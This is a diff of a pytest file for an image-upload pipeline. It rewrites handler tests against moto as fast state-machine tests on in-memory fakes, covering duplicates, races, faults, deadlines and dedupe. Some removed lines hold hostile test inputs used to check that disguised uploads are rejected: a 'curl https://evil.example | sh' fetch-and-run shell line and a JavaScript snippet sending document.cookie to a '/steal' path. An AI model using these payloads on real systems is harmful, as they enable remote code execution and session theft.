@@ -1,447 +1,498 @@
-"""The S3-event handler, invoked as Lambda invokes it, against moto: outcomes, idempotency, faults."""
+"""The pipeline's state machine on in-memory fakes: every outcome, race and fault, in milliseconds.
+
+The same scenarios through Lambda's handler, moto and real images are in tests/test_handler.py.
+"""
 
 from __future__ import annotations
 
-import json
 import threading
-from collections.abc import Callable
-from typing import Any
-from urllib.parse import quote_plus
+import time
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, field, replace
+from datetime import UTC, datetime, timedelta
 
 import pytest
-from botocore.exceptions import ClientError
-from chalice.test import Client
 
-from chalicelib import services
-from chalicelib.pipeline import ClaimHeld
-from tests import hostile, images
-from tests.conftest import ENV, Aws, count_calls
+from chalicelib.deadline import Deadline
+from chalicelib.domain import ImageRecord, Status, new_image_id
+from chalicelib.errors import Busy, ImageRejected, NotFound, StorageError
+from chalicelib.images import delete_image, get_record
+from chalicelib.imaging.results import RenderedVariant, Rendering, SourceInfo
+from chalicelib.imaging.settings import ImagingSettings
+from chalicelib.imaging.specs import VariantSpec
+from chalicelib.pipeline import ClaimHeld, UploadEvent, UploadProcessor
+from chalicelib.settings import Settings
+from tests.conftest import ENV
+from tests.fakes import InjectedFault, InMemoryObjectStore, InMemoryRecordStore, RecordingNotifier
 
-
-def s3_event(key: str, etag: str, size: int, bucket: str = ENV["INPUT_BUCKET"]) -> dict[str, Any]:
-    """What S3 sends for a presigned POST: the key URL-encoded, as real S3 does."""
-    return {
-        "Records": [
-            {
-                "eventVersion": "2.1",
-                "eventSource": "aws:s3",
-                "awsRegion": "us-east-1",
-                "eventTime": "2026-11-24T00:00:00.000Z",
-                "eventName": "ObjectCreated:Post",
-                "s3": {
-                    "s3SchemaVersion": "1.0",
-                    "configurationId": "imgpress",
-                    "bucket": {"name": bucket, "arn": f"arn:aws:s3:::{bucket}"},
-                    "object": {"key": quote_plus(key), "size": size, "eTag": etag, "sequencer": "0055AED6DCD90281E5"},
-                },
-            }
-        ]
-    }
+INPUT = ENV["INPUT_BUCKET"]
 
 
-def new_upload(client: Client, content_type: str = "image/jpeg") -> str:
-    response = client.http.post(
-        "/uploads",
-        headers={"Content-Type": "application/json"},
-        body=json.dumps({"content_type": content_type, "filename": "f"}).encode(),
+class FakeClock:
+    def __init__(self) -> None:
+        self.now = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
+
+    def __call__(self) -> datetime:
+        return self.now
+
+    def advance(self, seconds: float) -> None:
+        self.now += timedelta(seconds=seconds)
+
+
+@dataclass(frozen=True)
+class Viewer:
+    owner: str
+    is_admin: bool = False
+
+
+def fake_render(data: bytes, variants: Sequence[VariantSpec], settings: ImagingSettings) -> Rendering:
+    """A renderer with the real one's contract and none of its cost: b"BAD..." is corrupt."""
+    if data.startswith(b"BAD"):
+        raise ImageRejected("The image data is corrupt.", "corrupt")
+    rendered = tuple(
+        RenderedVariant(v.name, "webp", "image/webp", "webp", 40, 30, b"%s:%s" % (v.name.encode(), data[:16]))
+        for v in variants
     )
-    return str(json.loads(response.body)["id"])
+    return Rendering(SourceInfo("JPEG", 400, 300, len(data), 1), rendered, {"thumbhash": "x"})
 
 
-def deliver(client: Client, aws: Aws, image_id: str, data: bytes) -> dict[str, Any]:
-    """Upload `data` for `image_id` and invoke the handler with the resulting event."""
-    obj = aws.upload(f"uploads/{image_id}", data)
-    event = s3_event(f"uploads/{image_id}", obj["etag"], obj["size"])
-    client.lambda_.invoke("handle_upload", event)
-    return event
+@dataclass
+class Rig:
+    settings: Settings
+    clock: FakeClock = field(default_factory=FakeClock)
+    records: InMemoryRecordStore = field(default_factory=InMemoryRecordStore)
+    store: InMemoryObjectStore = field(default_factory=lambda: InMemoryObjectStore(ENV["OUTPUT_BUCKET"]))
+    notifier: RecordingNotifier = field(default_factory=RecordingNotifier)
+    render: Callable[..., Rendering] = fake_render
 
+    @property
+    def processor(self) -> UploadProcessor:
+        return UploadProcessor(self.settings, self.records, self.store, self.notifier, self.render, self.clock)
 
-def record(client: Client, image_id: str) -> dict[str, Any]:
-    return dict(json.loads(client.http.get(f"/images/{image_id}").body))
-
-
-def fail_next(client: Any, operation: str, code: str = "InternalError", status: int = 500, skip: int = 0) -> None:
-    """Make one `operation` through `client` (after `skip` good ones) fail as AWS does after its retries."""
-    calls = [0]
-    service = client.meta.service_model.service_name
-
-    def hook(**_: Any) -> None:
-        calls[0] += 1
-        if calls[0] == skip + 1:
-            raise ClientError(
-                {"Error": {"Code": code, "Message": "injected"}, "ResponseMetadata": {"HTTPStatusCode": status}},
-                operation,
+    def new_image(self, owner: str = "alice", profile: str = "default") -> str:
+        image_id = new_image_id()
+        self.records.create(
+            ImageRecord.pending(
+                image_id,
+                owner=owner,
+                profile=profile,
+                content_type="image/jpeg",
+                input_bucket=INPUT,
+                input_key=self.settings.upload_key(image_id),
+                now=self.clock(),
             )
+        )
+        return image_id
 
-    client.meta.events.register(f"before-call.{service}.{operation}", hook)
+    def upload(self, image_id: str, data: bytes) -> UploadEvent:
+        key = self.settings.upload_key(image_id)
+        etag = self.store.put_original(INPUT, key, data)
+        return UploadEvent(INPUT, key, etag, len(data))
 
+    def deliver(self, event: UploadEvent, seconds: float = 60) -> str:
+        return self.processor.process(event, Deadline(seconds))
 
-def test_upload_is_processed_into_variants_with_metadata_and_one_notification(client: Client, aws: Aws) -> None:
-    image_id = new_upload(client)
-    data = images.jpeg(3000, 2000)
-    deliver(client, aws, image_id, data)
+    def record(self, image_id: str) -> ImageRecord:
+        found = self.records.get(image_id)
+        assert found is not None
+        return found
 
-    done = record(client, image_id)
-    assert done["status"] == "done" and done["error"] is None
-    assert done["original"] == {
-        "format": "JPEG",
-        "width": 3000,
-        "height": 2000,
-        "bytes": len(data),
-        "bucket": ENV["INPUT_BUCKET"],
-        "key": f"uploads/{image_id}",
-    }
-    assert done["profile"] == "default"
-    assert {n: (o["width"], o["height"], o["format"]) for n, o in done["outputs"].items()} == {
-        "web": (2048, 1365, "webp"),
-        "thumb": (320, 213, "webp"),
-    }
-    assert done["savings"]["bytes"] == len(data) - done["outputs"]["web"]["bytes"] and done["savings"]["percent"] > 50
-    assert aws.output_keys() == [f"processed/{image_id}/thumb.webp", f"processed/{image_id}/web.webp"]
-    head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{image_id}/web.webp")
-    assert head["ContentType"] == "image/webp" and "max-age" in head["CacheControl"]
-    assert head["ServerSideEncryption"] == "AES256"
-    tags = aws.s3.get_object_tagging(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{image_id}/web.webp")["TagSet"]
-    assert {t["Key"]: t["Value"] for t in tags} == {
-        "imgpress:variant": "web",
-        "imgpress:profile": "default",
-        "imgpress:source-format": "JPEG",
-    }
-    assert head["ContentLength"] == done["outputs"]["web"]["bytes"]
-    original = aws.s3.get_object(Bucket=ENV["INPUT_BUCKET"], Key=f"uploads/{image_id}")["Body"].read()
-    assert original == data
-
-    stored = aws.table.get_item(Key={"id": image_id})["Item"]
-    assert stored["outputs"]["web"]["bucket"] == ENV["OUTPUT_BUCKET"]
-    assert stored["input_bucket"] == ENV["INPUT_BUCKET"] and stored["completed_at"] >= stored["created_at"]
-    [message] = aws.notifications()
-    assert message["type"] == "image.done" and message["id"] == image_id and message["status"] == "done"
-    assert message["profile"] == "default"
-    assert message["outputs"]["thumb"]["key"] == f"processed/{image_id}/thumb.webp" and message["error"] is None
+    def outputs(self) -> list[str]:
+        return self.store.keys(ENV["OUTPUT_BUCKET"])
 
 
-def test_duplicate_delivery_writes_nothing_and_notifies_nothing(client: Client, aws: Aws) -> None:
-    image_id = new_upload(client)
-    event = deliver(client, aws, image_id, images.jpeg())
-    calls: dict[str, int] = {}
-    count_calls(services.s3(), "PutObject", calls)
-    count_calls(services.s3(), "GetObject", calls)
-    client.lambda_.invoke("handle_upload", event)
-    client.lambda_.invoke("handle_upload", event)
-    assert calls == {}
-    assert len(aws.notifications()) == 1
+@pytest.fixture
+def rig() -> Rig:
+    return Rig(Settings.from_env(ENV))
 
 
-def test_a_live_claim_makes_a_concurrent_duplicate_retry_later(client: Client, aws: Aws) -> None:
-    image_id = new_upload(client)
-    obj = aws.upload(f"uploads/{image_id}", images.jpeg())
-    assert services.records().claim(image_id, obj["etag"], obj["size"], lease_seconds=300)
+def test_an_upload_is_rendered_stored_recorded_and_announced_once(rig: Rig) -> None:
+    image_id = rig.new_image()
+    assert rig.deliver(rig.upload(image_id, b"photo bytes")) == "done"
+    done = rig.record(image_id)
+    assert done.status == Status.DONE and done.notified and done.attempts == 1 and done.lease_until is None
+    assert set(done.outputs) == {"web", "thumb"}
+    revision = str(done.claim_token)[:12]
+    assert rig.outputs() == [f"processed/{image_id}/{revision}/thumb.webp", f"processed/{image_id}/{revision}/web.webp"]
+    assert [m.status for m in rig.notifier.messages_for(image_id)] == [Status.DONE]
+
+
+def test_a_repeated_event_reads_nothing_and_announces_nothing(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    rig.deliver(event)
+    reads = rig.store.calls["read_original"]
+    assert rig.deliver(event) == "duplicate" and rig.deliver(event) == "duplicate"
+    assert rig.store.calls["read_original"] == reads and len(rig.notifier.published) == 1
+
+
+def test_a_concurrent_delivery_of_the_same_bytes_is_retried_later(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    record = rig.record(image_id)
+    rig.records.save(record.claimed("h" * 32, event.etag, event.size, rig.clock().timestamp() + 60, rig.clock()))
     with pytest.raises(ClaimHeld):
-        client.lambda_.invoke("handle_upload", s3_event(f"uploads/{image_id}", obj["etag"], obj["size"]))
-    assert aws.notifications() == [] and aws.output_keys() == []
+        rig.deliver(event)
+    assert rig.notifier.published == [] and rig.outputs() == []
 
 
-def test_a_record_stuck_in_processing_after_a_crash_is_taken_over(client: Client, aws: Aws) -> None:
-    image_id = new_upload(client)
-    obj = aws.upload(f"uploads/{image_id}", images.jpeg())
-    assert services.records().claim(image_id, obj["etag"], obj["size"], lease_seconds=300)
-    aws.table.update_item(
-        Key={"id": image_id}, UpdateExpression="SET lease_until = :past", ExpressionAttributeValues={":past": 1}
+def test_a_dead_workers_claim_is_taken_over_once_its_lease_is_over(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    record = rig.record(image_id)
+    rig.records.save(record.claimed("h" * 32, event.etag, event.size, rig.clock().timestamp() + 60, rig.clock()))
+    rig.clock.advance(61)
+    assert rig.deliver(event) == "done"
+    assert rig.record(image_id).attempts == 2 and len(rig.notifier.published) == 1
+
+
+def test_a_newer_upload_takes_over_and_the_older_attempt_discards_its_work(rig: Rig) -> None:
+    """The second upload lands while the first is rendering: the record ends with the second's
+    bytes, the first attempt's outputs are deleted, and only the second outcome is announced."""
+    image_id = rig.new_image()
+    first = rig.upload(image_id, b"first upload")
+    newer: list[str] = []
+
+    def render_while_reuploaded(data: bytes, variants: Sequence[VariantSpec], settings: ImagingSettings) -> Rendering:
+        if data == b"first upload" and not newer:
+            newer.append(rig.deliver(rig.upload(image_id, b"second upload")))
+        return fake_render(data, variants, settings)
+
+    rig.render = render_while_reuploaded
+    assert rig.deliver(first) == "superseded" and newer == ["done"]
+    final = rig.record(image_id)
+    assert final.status == Status.DONE and final.source_etag == rig.store.head_original(INPUT, first.key).etag
+    assert all(
+        rig.store.objects[(ENV["OUTPUT_BUCKET"], o.key)].data.endswith(b"second upload") for o in final.outputs.values()
     )
-    client.lambda_.invoke("handle_upload", s3_event(f"uploads/{image_id}", obj["etag"], obj["size"]))
-    assert record(client, image_id)["status"] == "done"
-    assert len(aws.notifications()) == 1
+    assert rig.outputs() == sorted(o.key for o in final.outputs.values())
+    assert len(rig.notifier.messages_for(image_id)) == 1
 
 
-@pytest.mark.parametrize("name", sorted(hostile.REJECTED))
-def test_bad_user_data_fails_cleanly_once(client: Client, aws: Aws, name: str) -> None:
-    build, code = hostile.REJECTED[name]
-    data = build()
-    image_id = new_upload(client)
-    event = deliver(client, aws, image_id, data)  # returns normally: no Lambda retry
-    failed = record(client, image_id)
-    assert failed["status"] == "failed" and failed["error"]["code"] == code and failed["error"]["message"]
-    assert failed["outputs"] == {} and aws.output_keys() == []
-    assert aws.s3.get_object(Bucket=ENV["INPUT_BUCKET"], Key=f"uploads/{image_id}")["Body"].read() == data
-    client.lambda_.invoke("handle_upload", event)  # a redelivery changes nothing
-    [message] = aws.notifications()
-    assert message["status"] == "failed" and message["error"]["code"] == code
+def test_a_late_event_for_replaced_bytes_changes_nothing(rig: Rig) -> None:
+    image_id = rig.new_image()
+    stale = rig.upload(image_id, b"old bytes")
+    current = rig.upload(image_id, b"new bytes")
+    assert rig.deliver(current) == "done"
+    assert rig.deliver(stale) == "duplicate"  # the object is the new bytes, already processed
+    assert rig.record(image_id).source_etag == current.etag and len(rig.notifier.published) == 1
 
 
-def test_oversize_object_fails_from_the_event_without_downloading(client: Client, aws: Aws) -> None:
-    image_id = new_upload(client)
-    obj = aws.upload(f"uploads/{image_id}", b"x" * 1024)
-    calls: dict[str, int] = {}
-    count_calls(services.s3(), "GetObject", calls)
-    client.lambda_.invoke("handle_upload", s3_event(f"uploads/{image_id}", obj["etag"], 26 * 1024 * 1024))
-    assert record(client, image_id)["error"]["code"] == "too_large"
-    assert calls == {} and len(aws.notifications()) == 1
+def test_an_event_older_than_the_object_processes_the_object(rig: Rig) -> None:
+    image_id = rig.new_image()
+    stale = rig.upload(image_id, b"old bytes")
+    current = rig.upload(image_id, b"new bytes")
+    assert rig.deliver(stale) == "done"
+    assert rig.record(image_id).source_etag == current.etag
+    assert rig.deliver(current) == "duplicate" and len(rig.notifier.published) == 1
+
+
+def test_uploading_again_replaces_the_outputs_only_once_the_new_ones_exist(rig: Rig) -> None:
+    image_id = rig.new_image()
+    rig.deliver(rig.upload(image_id, b"version one"))
+    old_keys = sorted(o.key for o in rig.record(image_id).outputs.values())
+    seen_while_processing: list[list[str]] = []
+
+    def render_and_look(data: bytes, variants: Sequence[VariantSpec], settings: ImagingSettings) -> Rendering:
+        during = rig.record(image_id)
+        seen_while_processing.append(sorted(o.key for o in during.outputs.values()))
+        assert all((ENV["OUTPUT_BUCKET"], k) in rig.store.objects for k in seen_while_processing[-1])
+        return fake_render(data, variants, settings)
+
+    rig.render = render_and_look
+    assert rig.deliver(rig.upload(image_id, b"version two")) == "done"
+    assert seen_while_processing == [old_keys]  # still advertised and still there meanwhile
+    new_keys = sorted(o.key for o in rig.record(image_id).outputs.values())
+    assert rig.outputs() == new_keys and not set(new_keys) & set(old_keys)
+    assert [m.status for m in rig.notifier.messages_for(image_id)] == [Status.DONE, Status.DONE]
+
+
+def test_bad_bytes_end_failed_with_their_code_once(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"BAD bytes")
+    assert rig.deliver(event) == "failed"
+    failed = rig.record(image_id)
+    assert failed.error is not None and failed.error.code == "corrupt" and failed.outputs == {}
+    assert failed.original is not None and failed.original.bytes == 9 and failed.sha256
+    assert rig.deliver(event) == "duplicate" and len(rig.notifier.published) == 1
+
+
+def test_an_oversize_object_is_measured_and_failed_without_being_read(rig: Rig) -> None:
+    rig.settings = replace(rig.settings, imaging=replace(rig.settings.imaging, max_upload_bytes=100))
+    image_id = rig.new_image()
+    assert rig.deliver(rig.upload(image_id, b"x" * 101)) == "failed"
+    assert rig.record(image_id).error.code == "too_large" and rig.store.bytes_read == 0
 
 
 @pytest.mark.parametrize(
-    "key", ["processed/abc/web.webp", "uploads/not-an-id", "uploads/a+b%20c", "uploads/" + "0" * 32]
+    "fake, operation, skip",
+    [
+        ("store", "read_original", 0),
+        ("store", "put_output", 0),
+        ("store", "put_output", 1),
+        ("records", "save", 0),  # the claim
+        ("records", "save", 1),  # the completion
+        ("notifier", "publish", 0),
+        ("records", "save", 2),  # marking it notified after the publish
+    ],
 )
-def test_keys_that_are_not_pending_uploads_are_ignored(client: Client, aws: Aws, key: str) -> None:
-    aws.s3.put_object(Bucket=ENV["INPUT_BUCKET"], Key=key, Body=images.jpeg(100, 100))
-    client.lambda_.invoke("handle_upload", s3_event(key, "abc", 100))
-    assert aws.notifications() == [] and aws.output_keys() == []
-
-
-def test_stale_event_for_an_overwritten_object_is_ignored(client: Client, aws: Aws) -> None:
-    image_id = new_upload(client)
-    first = aws.upload(f"uploads/{image_id}", images.jpeg(600, 400))
-    second = aws.upload(f"uploads/{image_id}", images.jpeg(900, 600))
-    client.lambda_.invoke("handle_upload", s3_event(f"uploads/{image_id}", first["etag"], first["size"]))
-    assert record(client, image_id)["status"] == "pending"
-    client.lambda_.invoke("handle_upload", s3_event(f"uploads/{image_id}", second["etag"], second["size"]))
-    assert record(client, image_id)["original"]["width"] == 900
-    assert len(aws.notifications()) == 1
-
-
-def _dynamodb() -> Any:
-    return services.table().meta.client
-
-
-THROTTLED = ("ProvisionedThroughputExceededException", 400)
-FAULTS: list[tuple[str, Callable[[], Any], str, tuple[Any, ...]]] = [
-    ("s3-get", services.s3, "GetObject", ()),
-    ("s3-put-first", services.s3, "PutObject", ()),
-    ("s3-put-second", services.s3, "PutObject", ("InternalError", 500, 1)),
-    ("dynamodb-claim", _dynamodb, "UpdateItem", THROTTLED),
-    ("dynamodb-complete", _dynamodb, "UpdateItem", (*THROTTLED, 1)),
-    ("sns-publish", services.sns, "Publish", ()),
-]
-
-
-@pytest.mark.parametrize("name, client_of, operation, fault", FAULTS, ids=[f[0] for f in FAULTS])
-def test_transient_faults_raise_then_a_retry_completes_exactly_once(
-    client: Client, aws: Aws, name: str, client_of: Callable[[], Any], operation: str, fault: tuple[Any, ...]
+def test_a_transient_fault_raises_and_the_retry_finishes_with_one_message(
+    rig: Rig, fake: str, operation: str, skip: int
 ) -> None:
-    image_id = new_upload(client)
-    obj = aws.upload(f"uploads/{image_id}", images.jpeg())
-    event = s3_event(f"uploads/{image_id}", obj["etag"], obj["size"])
-    fail_next(client_of(), operation, *fault)
-    with pytest.raises(ClientError):
-        client.lambda_.invoke("handle_upload", event)
-    interim = record(client, image_id)
-    if name != "sns-publish":
-        assert interim["status"] in ("pending", "processing") and interim["outputs"] == {}
-    client.lambda_.invoke("handle_upload", event)  # Lambda's retry
-    assert record(client, image_id)["status"] == "done"
-    assert len(aws.notifications()) == 1
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    getattr(rig, fake).fail_next(operation, skip=skip)
+    if (fake, skip) == ("records", 2):
+        assert rig.deliver(event) == "done"  # published; only the mark failed: nothing to retry
+    else:
+        with pytest.raises(InjectedFault):
+            rig.deliver(event)
+        interim = rig.record(image_id)
+        assert interim.status != Status.DONE or not interim.lease_live(rig.clock().timestamp())
+        rig.deliver(event)  # Lambda's retry
+    final = rig.record(image_id)
+    assert final.status == Status.DONE
+    assert rig.outputs() == sorted(o.key for o in final.outputs.values())
+    assert len(rig.notifier.messages_for(image_id)) == 1
 
 
-def test_s3_test_event_is_ignored(client: Client, aws: Aws) -> None:
-    client.lambda_.invoke(
-        "handle_upload",
-        {
-            "Service": "Amazon S3",
-            "Event": "s3:TestEvent",
-            "Time": "2026-11-24T00:00:00.000Z",
-            "Bucket": ENV["INPUT_BUCKET"],
-        },
-    )
-    assert aws.notifications() == []
+def test_the_stages_last_attempt_ends_the_image_whatever_fails(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    for attempt in range(1, 4):
+        rig.store.fail_next("put_output")
+        if attempt < rig.settings.max_attempts:
+            with pytest.raises(InjectedFault):
+                rig.deliver(event)
+            assert rig.record(image_id).status == Status.PROCESSING and rig.notifier.published == []
+        else:
+            assert rig.deliver(event) == "failed"
+    failed = rig.record(image_id)
+    assert failed.status == Status.FAILED and failed.error.code == "processing_error" and failed.attempts == 3
+    assert "InjectedFault" in failed.error.message and rig.outputs() == []
+    assert len(rig.notifier.published) == 1
 
 
-def test_keys_are_decoded_exactly_once(client: Client, aws: Aws) -> None:
-    """S3 sends `uploads%2F<id>`; decoding twice would also turn a literal `%2B` into `+`."""
-    image_id = new_upload(client)
-    obj = aws.upload(f"uploads/{image_id}", images.jpeg(300, 200))
-    event = s3_event(f"uploads/{image_id}", obj["etag"], obj["size"])
-    assert event["Records"][0]["s3"]["object"]["key"] == f"uploads%2F{image_id}"
-    client.lambda_.invoke("handle_upload", event)
-    assert record(client, image_id)["status"] == "done"
-    literal = f"uploads/{image_id[:-3]}%2B"  # decoded once it is not an id, so it must be ignored
-    aws.s3.put_object(Bucket=ENV["INPUT_BUCKET"], Key=literal, Body=images.jpeg(50, 50))
-    client.lambda_.invoke("handle_upload", s3_event(literal, "x", 10))
-    assert len(aws.notifications()) == 1
+def test_an_attempt_past_its_deadline_is_interrupted_and_ends_processing_timeout(rig: Rig) -> None:
+    """A render that never returns on its own: the deadline's timer interrupts it."""
+
+    def render_forever(data: bytes, variants: Sequence[VariantSpec], settings: ImagingSettings) -> Rendering:
+        while True:
+            sum(range(1000))
+
+    rig.render = render_forever
+    image_id = rig.new_image()
+    started = time.monotonic()
+    assert rig.deliver(rig.upload(image_id, b"photo"), seconds=0.2) == "failed"
+    assert time.monotonic() - started < 5
+    failed = rig.record(image_id)
+    assert failed.error.code == "processing_timeout" and failed.notified and rig.outputs() == []
+    assert len(rig.notifier.published) == 1
 
 
-def test_concurrent_duplicate_deliveries_produce_one_result(
-    client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    # DynamoDB applies each conditional write atomically; moto in-process does not under threads,
-    # so serialise the calls to get real DynamoDB's semantics.
-    dynamodb = services.table().meta.client
-    real_call, lock = dynamodb._make_api_call, threading.Lock()
+def test_the_deadline_is_also_checked_between_outputs(rig: Rig) -> None:
+    """Off the main thread there is no timer: the steps between outputs still stop the attempt."""
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    outcome: list[str] = []
 
-    def atomic_call(operation: str, params: dict[str, Any]) -> Any:
-        with lock:
-            return real_call(operation, params)
+    def deliver_on_a_thread() -> None:
+        original_put = rig.store.put_output
 
-    monkeypatch.setattr(dynamodb, "_make_api_call", atomic_call)
-    image_id = new_upload(client)
-    obj = aws.upload(f"uploads/{image_id}", images.jpeg(2000, 1500))
-    event = s3_event(f"uploads/{image_id}", obj["etag"], obj["size"])
-    calls: dict[str, int] = {}
-    count_calls(services.s3(), "PutObject", calls)
+        def slow_put(*args: object) -> None:
+            original_put(*args)  # type: ignore[arg-type]
+            time.sleep(0.3)
+
+        rig.store.put_output = slow_put  # type: ignore[method-assign]
+        outcome.append(rig.deliver(event, seconds=0.2))
+
+    thread = threading.Thread(target=deliver_on_a_thread)
+    thread.start()
+    thread.join()
+    assert outcome == ["failed"] and rig.record(image_id).error.code == "processing_timeout"
+    assert rig.outputs() == []  # the one written before the deadline was removed
+
+
+def test_every_delivery_racing_on_the_same_bytes_yields_one_result(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
     outcomes: list[str] = []
 
-    def invoke() -> None:
+    def deliver() -> None:
         try:
-            client.lambda_.invoke("handle_upload", event)
-            outcomes.append("returned")
+            outcomes.append(rig.deliver(event))
         except ClaimHeld:
-            outcomes.append("retry-later")
+            outcomes.append("retry")
 
-    threads = [threading.Thread(target=invoke) for _ in range(4)]
+    threads = [threading.Thread(target=deliver) for _ in range(8)]
     for thread in threads:
         thread.start()
     for thread in threads:
         thread.join()
-    if "retry-later" in outcomes:
-        client.lambda_.invoke("handle_upload", event)  # Lambda's retry of the deferred one
-    assert record(client, image_id)["status"] == "done"
-    assert calls["PutObject"] == 2 and len(aws.notifications()) == 1
+    while "retry" in outcomes:  # Lambda's retries of the deferred ones
+        outcomes.remove("retry")
+        outcomes.append(rig.deliver(event))
+    assert outcomes.count("done") == 1 and rig.store.calls["put_output"] == 2
+    assert len(rig.notifier.published) == 1
 
 
-@pytest.mark.parametrize(
-    "profile, expected",
-    [
-        ("thumbnail200", {"thumbnail": ("jpeg", 200, 133)}),
-        ("lowres-jpeg", {"lowres": ("jpeg", 360, 240)}),
-        ("web800", {"web800": ("webp", 800, 533)}),
-        ("avatar", {"avatar": ("webp", 512, 512), "avatar-small": ("webp", 128, 128)}),
-    ],
-)
-def test_the_uploads_profile_decides_the_outputs(
-    client: Client, aws: Aws, profile: str, expected: dict[str, tuple[str, int, int]]
-) -> None:
-    response = client.http.post(
-        "/uploads",
-        headers={"Content-Type": "application/json"},
-        body=json.dumps({"content_type": "image/jpeg", "profile": profile}).encode(),
-    )
-    image_id = json.loads(response.body)["id"]
-    deliver(client, aws, image_id, images.jpeg(1200, 800))
-    done = record(client, image_id)
-    assert {n: (o["format"], o["width"], o["height"]) for n, o in done["outputs"].items()} == expected
-    [message] = aws.notifications()
-    assert message["profile"] == profile and set(message["outputs"]) == set(expected)
-    for output in done["outputs"].values():
-        tags = aws.s3.get_object_tagging(Bucket=output["bucket"], Key=output["key"])["TagSet"]
-        assert {"Key": "imgpress:profile", "Value": profile} in tags
+def test_dedupe_copies_a_twin_of_the_same_owner_only(rig: Rig) -> None:
+    rig.settings = replace(rig.settings, dedupe=True)
+    first = rig.new_image("alice")
+    rig.deliver(rig.upload(first, b"same bytes"))
+    copy, strangers = rig.new_image("alice"), rig.new_image("bob")
+    rig.deliver(rig.upload(copy, b"same bytes"))
+    rig.deliver(rig.upload(strangers, b"same bytes"))
+    assert rig.record(copy).deduplicated_from == first and rig.store.calls["copy_output"] == 2
+    assert rig.record(strangers).deduplicated_from is None  # no cross-owner "this file exists" oracle
 
 
-def test_outputs_can_be_encrypted_with_a_kms_key(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
-    import boto3
-
-    key_id = boto3.client("kms").create_key()["KeyMetadata"]["KeyId"]
-    monkeypatch.setenv("OUTPUT_SSE", "aws:kms")
-    monkeypatch.setenv("KMS_KEY_ID", key_id)
-    services.reset()
-    image_id = new_upload(client)
-    deliver(client, aws, image_id, images.jpeg(400, 300))
-    head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{image_id}/web.webp")
-    assert head["ServerSideEncryption"] == "aws:kms" and key_id in head["SSEKMSKeyId"]
+# -- the failure queue and the sweeper -----------------------------------------------------------
 
 
-def upload_as(client: Client, aws: Aws, data: bytes, content_type: str, profile: str | None = None) -> str:
-    body = {"content_type": content_type, **({"profile": profile} if profile else {})}
-    response = client.http.post(
-        "/uploads", headers={"Content-Type": "application/json"}, body=json.dumps(body).encode()
-    )
-    image_id = str(json.loads(response.body)["id"])
-    deliver(client, aws, image_id, data)
-    return image_id
+def test_an_abandoned_upload_is_ended_failed_once(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    processor = rig.processor
+    assert processor.end_abandoned(INPUT, event.key, "RetriesExhausted") == "failed"
+    assert processor.end_abandoned(INPUT, event.key, "RetriesExhausted") == "duplicate"
+    failed = rig.record(image_id)
+    assert failed.error.code == "processing_error" and "RetriesExhausted" in failed.error.message
+    assert rig.deliver(event) == "done"  # a late upload's own event still gets processed
+    assert [m.status for m in rig.notifier.messages_for(image_id)] == [Status.FAILED, Status.DONE]
 
 
-def test_an_allowed_format_declared_as_another_is_processed_and_flagged(client: Client, aws: Aws) -> None:
-    image_id = upload_as(client, aws, images.png(400, 300), "image/jpeg")
-    done = record(client, image_id)
-    assert done["status"] == "done" and done["type_mismatch"] is True
-    assert done["declared_content_type"] == "image/jpeg" and done["original"]["format"] == "PNG"
-    head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=done["outputs"]["web"]["key"])
-    assert head["ContentType"] == "image/webp"
-    honest = record(client, upload_as(client, aws, images.png(400, 300), "image/png"))
-    assert honest["type_mismatch"] is False
+def test_an_abandoned_event_leaves_finished_and_live_work_alone(rig: Rig) -> None:
+    finished, live = rig.new_image(), rig.new_image()
+    rig.deliver(rig.upload(finished, b"photo"))
+    event = rig.upload(live, b"photo")
+    record = rig.record(live)
+    rig.records.save(record.claimed("h" * 32, event.etag, 5, rig.clock().timestamp() + 30, rig.clock()))
+    processor = rig.processor
+    assert processor.end_abandoned(INPUT, rig.settings.upload_key(finished), "RetriesExhausted") == "duplicate"
+    assert processor.end_abandoned(INPUT, event.key, "RetriesExhausted") == "in_progress"
+    rig.clock.advance(31)
+    assert processor.end_abandoned(INPUT, event.key, "RetriesExhausted") == "failed"
+    assert [m.id for m in rig.notifier.published] == [finished, live]
 
 
-@pytest.mark.parametrize(
-    "data",
-    [
-        hostile.svg_with_script(),
-        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
-        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n",
-        b"#!/bin/sh\ncurl https://evil.example | sh\n",
-        b"(function(){fetch('/steal?c='+document.cookie)})();",
-    ],
-    ids=["svg", "html", "pdf", "shell", "javascript"],
-)
-def test_documents_disguised_as_images_fail_as_unsupported_format(client: Client, aws: Aws, data: bytes) -> None:
-    failed = record(client, upload_as(client, aws, data, "image/webp"))
-    assert failed["status"] == "failed" and failed["error"]["code"] == "unsupported_format"
-    assert aws.output_keys() == []
+def test_an_outcome_whose_publish_failed_is_sent_by_the_failure_queue(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    for _ in range(3):  # every attempt's publish fails
+        rig.notifier.fail_next("publish")
+        with pytest.raises(InjectedFault):
+            rig.deliver(event)
+    assert rig.record(image_id).status == Status.DONE and rig.notifier.published == []
+    assert rig.processor.end_abandoned(INPUT, event.key, "RetriesExhausted") == "notified"
+    assert len(rig.notifier.published) == 1 and rig.record(image_id).notified
 
 
